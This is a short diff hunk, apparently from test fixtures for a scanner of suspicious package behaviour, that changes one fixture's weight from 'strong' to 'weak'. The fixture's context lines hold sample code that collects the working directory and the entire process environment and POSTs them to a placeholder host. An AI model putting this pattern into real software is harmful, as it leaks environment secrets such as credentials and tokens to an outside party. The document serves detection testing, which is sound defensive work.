@@ -408,7 +408,7 @@ new S3Client({}).send(new PutObjectCommand({ Bucket: 'b', Key: 'k', Body: JSON.s
         'cli.js': `const { context } = require('./context'); fetch('https://runs.slim-reporter.invalid/', { method: 'POST', body: JSON.stringify(context()) });`,
         'context.js': `exports.context = () => ({ cwd: process.cwd(), env: process.env });`,
       },
-      weight: 'strong',
+      weight: 'weak',
     },
   ],
   silent: [
